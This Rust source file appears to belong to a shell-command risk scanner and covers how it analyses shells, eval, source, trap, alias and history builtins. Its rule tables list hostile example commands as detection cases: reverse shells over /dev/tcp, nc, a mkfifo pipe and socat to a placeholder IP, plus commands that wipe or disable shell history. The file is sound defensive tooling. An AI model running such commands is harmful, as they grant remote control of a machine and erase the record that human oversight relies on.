//! Shells, `eval`, and the builtins that change what follows.

use crate::options::{Arguments, Spec};
use crate::path::Path;
use crate::rule::Rule;
use crate::scope::Scope;
use crate::script::Script;
use crate::tools::{Call, computed, exfiltration, span_of};
use crate::value::{Carries, HOME, MAYBE, START, Stream, UNKNOWN, Value};
use crate::verdict::{Category, RiskLevel};
use crate::walk::Walker;

static HISTORY: Rule = Rule {
    id: "history-cleared",
    category: Category::Obfuscation,
    summary: "clears or switches off the shell's history",
    catches: &["history -c", "unset HISTFILE", "export HISTFILE=/dev/null"],
    leaves: &["history", "history | grep ssh", "history -d 12"],
};

static REMOTE_SHELL: Rule = Rule {
    id: "remote-shell",
    category: Category::NetworkExecution,
    summary: "connects a shell to the network",
    catches: &[
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "nc -e /bin/sh 10.0.0.1 4242",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f",
        "socat TCP:10.0.0.1:4242 EXEC:/bin/sh",
    ],
    leaves: &[
        "bash -i",
        "nc -zv localhost 80",
        "echo > /dev/tcp/localhost/80",
    ],
};

pub(crate) static RULES: &[&Rule] = &[&HISTORY, &REMOTE_SHELL];

/// Notes a shell that listens to the network.
pub(crate) fn report_remote_shell(walker: &mut Walker<'_>, span: std::ops::Range<usize>) {
    let explanation = "This lets someone on the network run commands here.";
    walker.report(&REMOTE_SHELL, RiskLevel::Critical, span, explanation, None);
}

/// Whether a name is a shell's.
pub(crate) fn is_shell(name: &str) -> bool {
    let name = name.rsplit('/').next().unwrap_or(name);
    matches!(
        name,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish" | "mksh" | "rbash" | "csh" | "tcsh"
    )
}

/// Runs the text of a value as a script of its own.
pub(crate) fn run_value(
    walker: &mut Walker<'_>,
    value: &Value,
    scope: &mut Scope,
    input: Stream,
) -> Stream {
    if value.carries != Carries::Nothing {
        computed::report_code(walker, value.carries, value.span.clone());
    } else if value.is_wholly_unknown() {
        computed::report_code(walker, Carries::Computed, value.span.clone());
    }
    if value.is_wholly_unknown() || value.text.is_empty() {
        return Stream::Other(value.carries);
    }
    // What is not known stays a variable in the text that is read: the shell will see its value as code.
    let text = code_of(&value.text);
    let origin = walker.origin_of(value);
    walker.script(&Script::new(text, origin), scope, input)
}

/// Text with markers as text that can be read again.
fn code_of(text: &str) -> String {
    if !text.contains(crate::value::is_marker) {
        return text.to_owned();
    }
    let mut code = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            HOME => code.push('~'),
            crate::value::START => code.push('.'),
            crate::value::GLOB => code.push('*'),
            MAYBE => code.push_str("${MAYBE}"),
            UNKNOWN => code.push_str("${MAYBE:?}"),
            c => code.push(c),
        }
    }
    code
}

/// Runs words joined by blanks, as `eval`, `ssh` and `watch` do.
pub(crate) fn run_words(
    walker: &mut Walker<'_>,
    words: &[Value],
    scope: &mut Scope,
    input: Stream,
) -> Stream {
    match words {
        [] => Stream::Nothing,
        [only] => run_value(walker, only, scope, input),
        _ => {
            let mut joined = Value::new("", span_of(words));
            for word in words {
                if !joined.text.is_empty() {
                    joined.text.push(' ');
                }
                joined.text.push_str(&word.text);
                joined.carries = joined.carries.max(word.carries);
            }
            joined.limit();
            run_value(walker, &joined, scope, input)
        }
    }
}

/// Runs what a shell reads from its standard input.
pub(crate) fn run_stream(
    walker: &mut Walker<'_>,
    call: &Call<'_>,
    input: Stream,
    scope: &mut Scope,
) -> Stream {
    match input {
        Stream::Nothing | Stream::File | Stream::Shell => Stream::Nothing,
        Stream::Text(text) => run_value(
            walker,
            &Value::new(text, call.span.clone()),
            scope,
            Stream::Nothing,
        ),
        Stream::Endless => Stream::Nothing,
        other => {
            computed::report_code(walker, other.carries(), call.span.clone());
            Stream::Other(other.carries())
        }
    }
}

/// A shell: `-c` and its text, a file, or its standard input.
pub(crate) fn judge_shell(walker: &mut Walker<'_>, call: &Call<'_>, scope: &mut Scope) -> Stream {
    let mut inner = scope.clone();
    inner.positional = None;
    let mut reads_input = true;
    let mut index = 0;
    while let Some(argument) = call.arguments.get(index) {
        index += 1;
        let text = argument.text.as_str();
        let code = text
            .strip_prefix('-')
            .is_some_and(|letters| !text.starts_with("--") && letters.contains('c'));
        if code || matches!(text, "-Command" | "--command" | "/c") {
            let Some(script) = call.arguments[index..]
                .iter()
                .find(|next| !next.text.starts_with('-'))
            else {
                return Stream::Nothing;
            };
            // The first word after the text is `$0`, the rest are `$1` and so on.
            let mut after = call
                .arguments
                .iter()
                .skip_while(|next| !std::ptr::eq(*next, script))
                .skip(1);
            inner.zero = after.next().map(|zero| zero.text.clone());
            let arguments: Vec<Value> = after.cloned().collect();
            inner.positional = inner.zero.is_some().then(|| arguments.into());
            let output = run_value(walker, script, &mut inner, call.input.clone());
            scope.keep_marks(&inner);
            return output;
        }
        match text {
            "-s" | "-" | "/dev/stdin" => break,
            "-o" | "+o" | "-O" | "--rcfile" | "--init-file" => index += 1,
            _ if text.starts_with(['-', '+']) => {}
            _ => {
                reads_input = false;
                run_file(walker, argument, call, &mut inner);
                break;
            }
        }
    }
    if reads_input {
        let interactive = call.has_letter('i');
        let output = run_stream(walker, call, call.input.clone(), &mut inner);
        return if interactive { Stream::Shell } else { output };
    }
    Stream::Other(Carries::Nothing)
}

/// A file that is run as a script.
pub(crate) fn run_file(walker: &mut Walker<'_>, file: &Value, call: &Call<'_>, scope: &mut Scope) {
    if matches!(
        file.text.as_str(),
        "/dev/stdin" | "-" | "/dev/fd/0" | "/proc/self/fd/0"
    ) {
        run_stream(walker, call, call.input.clone(), scope);
    } else if let Some(pipe) = &file.pipe {
        run_stream(walker, call, (**pipe).clone(), scope);
    } else if file.is_wholly_unknown() {
        computed::report_code(
            walker,
            file.carries.max(Carries::Computed),
            file.span.clone(),
        );
    } else {
        if let Stream::Other(carries @ (Carries::Fetched | Carries::Decoded)) =
            walker.contents(file, scope)
        {
            computed::report_code(walker, carries, call.span.clone());
        }
        // The network is a file system too, for those who mount it so.
        if file.text.starts_with("http://") || file.text.starts_with("https://") {
            computed::report_code(walker, Carries::Fetched, file.span.clone());
        }
    }
}

/// `cd` and `pushd`: what follows happens elsewhere.
pub(crate) fn judge_cd(call: &Call<'_>, scope: &mut Scope) -> Stream {
    let target = call
        .arguments
        .iter()
        .find(|argument| argument.text == "-" || !argument.text.starts_with('-'));
    let Some(target) = target else {
        HOME.to_string().clone_into(&mut scope.directory);
        return Stream::Nothing;
    };
    let text = target.text.as_str();
    let unknown = text.chars().all(|c| matches!(c, MAYBE | UNKNOWN));
    scope.directory = if unknown && text.contains(MAYBE) && !target.quoted {
        // Without quotes an empty variable leaves `cd`, which goes home.
        format!("{HOME}/{MAYBE}")
    } else if unknown || text == "-" || call.name == "popd" {
        // Somewhere: no better known than where a command starts.
        START.to_string()
    } else if text.starts_with(['/', HOME, UNKNOWN, MAYBE, START]) {
        text.to_owned()
    } else {
        Path::resolve(&format!("{}/{text}", scope.directory), None).to_string()
    };
    Stream::Nothing
}

/// The builtins that set, run or hide something.
pub(crate) fn judge_builtin(
    walker: &mut Walker<'_>,
    call: &Call<'_>,
    words: &[Value],
    scope: &mut Scope,
) -> Stream {
    match call.name {
        "eval" => run_words(walker, call.arguments, scope, call.input.clone()),
        "exec" => {
            let spec = Spec {
                letters: "a",
                leading: true,
                ..Spec::default()
            };
            let first = Arguments::read(call.arguments, spec).first_operand;
            let rest = call.arguments.get(first..).unwrap_or(&[]);
            walker.judge(rest, call.input.clone(), scope)
        }
        "source" | "." => {
            if let Some(file) = call.arguments.first() {
                run_file(walker, file, call, scope);
            }
            Stream::Nothing
        }
        "trap" => {
            if let Some(code) = call
                .arguments
                .iter()
                .find(|argument| !argument.text.starts_with('-'))
            {
                let mut inner = scope.clone();
                if call.arguments.len() > 1 && !code.text.is_empty() {
                    run_value(walker, code, &mut inner, Stream::Nothing);
                }
            }
            Stream::Nothing
        }
        "alias" => {
            for argument in call.arguments {
                if let Some((name, text)) = argument.text.split_once('=') {
                    let mut value = argument.clone();
                    value.text = text.to_owned();
                    // It only runs where it is used; what is plainly destructive is told at once.
                    let before = walker.findings.len();
                    run_value(walker, &value, &mut scope.clone(), Stream::Nothing);
                    let mut index = 0;
                    walker.findings.retain(|finding| {
                        index += 1;
                        index <= before || finding.risk_level == RiskLevel::Critical
                    });
                    scope.set_alias(name, text);
                }
            }
            Stream::Nothing
        }
        "read" | "mapfile" | "readarray" => {
            let carries = call.input.carries();
            for name in call.words() {
                let mut value = Value::new(MAYBE, call.span.clone());
                value.carries = carries;
                if let Stream::Names(found) = &call.input
                    && let Some(found) = found.first()
                {
                    value = Value::new(found.path(), call.span.clone());
                }
                let lines = match &call.input {
                    Stream::Text(text) => text.lines().take(16).collect(),
                    _ => Vec::new(),
                };
                if lines.is_empty() {
                    scope.set(name, vec![value]);
                } else {
                    let values = lines
                        .into_iter()
                        .map(|line| Value::new(line.trim(), call.span.clone()));
                    scope.set(name, values.collect());
                }
            }
            Stream::Nothing
        }
        "unset" => {
            for name in call.words() {
                scope.unset(name);
            }
            if call.words().contains(&"HISTFILE") {
                call.report(
                    walker,
                    &HISTORY,
                    RiskLevel::Moderate,
                    "This switches the shell's history off.",
                );
            }
            Stream::Nothing
        }
        "set" => {
            if let [dashes, rest @ ..] = call.arguments
                && dashes.text == "--"
            {
                scope.positional = Some(rest.into());
            }
            // Alone it prints every variable, and so every token among them.
            if call.arguments.is_empty() {
                return Stream::Other(Carries::Secret);
            }
            Stream::Nothing
        }
        "history" if call.has_letter('c') => {
            call.report(
                walker,
                &HISTORY,
                RiskLevel::Moderate,
                "This clears the shell's history.",
            );
            Stream::Nothing
        }
        "history" | "fc" => Stream::Other(Carries::Secret),
        "export" => {
            if call.arguments.iter().any(|argument| {
                matches!(
                    argument.text.as_str(),
                    "HISTFILE=/dev/null" | "HISTSIZE=0" | "HISTFILE="
                )
            }) {
                call.report(
                    walker,
                    &HISTORY,
                    RiskLevel::Moderate,
                    "This switches the shell's history off.",
                );
            }
            Stream::Nothing
        }
        "sleep" | "wait" => {
            if let Some(waits) = walker.endless_loops.last_mut() {
                *waits = true;
            }
            Stream::Nothing
        }
        _ => {
            exfiltration::judge_arguments(walker, call, scope);
            debug_assert!(!words.is_empty(), "a call has at least its name");
            Stream::Nothing
        }
    }
}

/// A command whose name is an alias: its text, then the words that follow it.
pub(crate) fn run_alias(
    walker: &mut Walker<'_>,
    text: &str,
    words: &[Value],
    input: Stream,
    scope: &mut Scope,
) -> Stream {
    let mut expanded: Vec<Value> = text
        .split_whitespace()
        .map(|word| Value::new(word, span_of(words)))
        .collect();
    expanded.extend(words.iter().skip(1).cloned());
    if expanded.is_empty() {
        return Stream::Nothing;
    }
    walker.judge(&expanded, input, scope)
}
